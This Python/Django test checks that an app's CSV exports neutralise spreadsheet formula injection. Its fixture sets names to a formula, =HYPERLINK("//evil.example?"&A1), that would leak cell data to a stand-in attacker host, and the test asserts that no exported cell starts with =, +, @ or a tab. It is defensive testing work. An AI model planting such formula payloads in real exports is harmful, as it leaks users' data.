"""Whoever names themselves like a formula does not run in the auditor's spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.db import transaction
from tests.matrix.addresses import every_address
from tests.matrix.scenes import scene
from tests.support.cast import Cast
from tests.support.signed_in import client_of

from muster.directory.models import Office

FORMULA = '=HYPERLINK("//evil.example?"&A1)'


def test_no_cell_of_any_export_begins_like_a_formula(cast: Cast) -> None:
    cast.keene.name = FORMULA
    cast.keene.save()
    for office in Office.objects.filter(organization=cast.keene):
        Office.objects.filter(pk=office.pk).update(title=f"+{office.title}{FORMULA}")
    for person in (cast.keene_representative, cast.denton_representative, cast.auditor):
        person.name = f"@{person.name}"
        person.save()
    here = scene(cast, "bound")
    tables: set[str] = set()
    formulas = 0
    for who in (cast.keene_representative, cast.auditor, cast.coordinator):
        client = client_of(who)
        for address in every_address():
            if address.is_api or (address.method == "POST") != address.route.endswith("export/"):
                continue
            for values in here.values_for(address).values():
                with transaction.atomic():
                    send = client.post if address.method == "POST" else client.get
                    answer: Any = send(address.path(values), {"format": "csv", "as": "csv"})
                    transaction.set_rollback(True)
                if str(answer.headers.get("Content-Type", "")).startswith("text/csv"):
                    content = b"".join(answer.streaming_content).decode()
                    cells = [one for row in csv.reader(io.StringIO(content)) for one in row]
                    tables.add(address.route)
                    formulas += sum(FORMULA in cell or "'@" in cell for cell in cells)
                    wrong = [one for one in cells if one.startswith(("=", "+", "@", "\t"))]
                    assert not wrong, (address, wrong)
    assert len(tables) >= 4, tables
    assert formulas >= 1
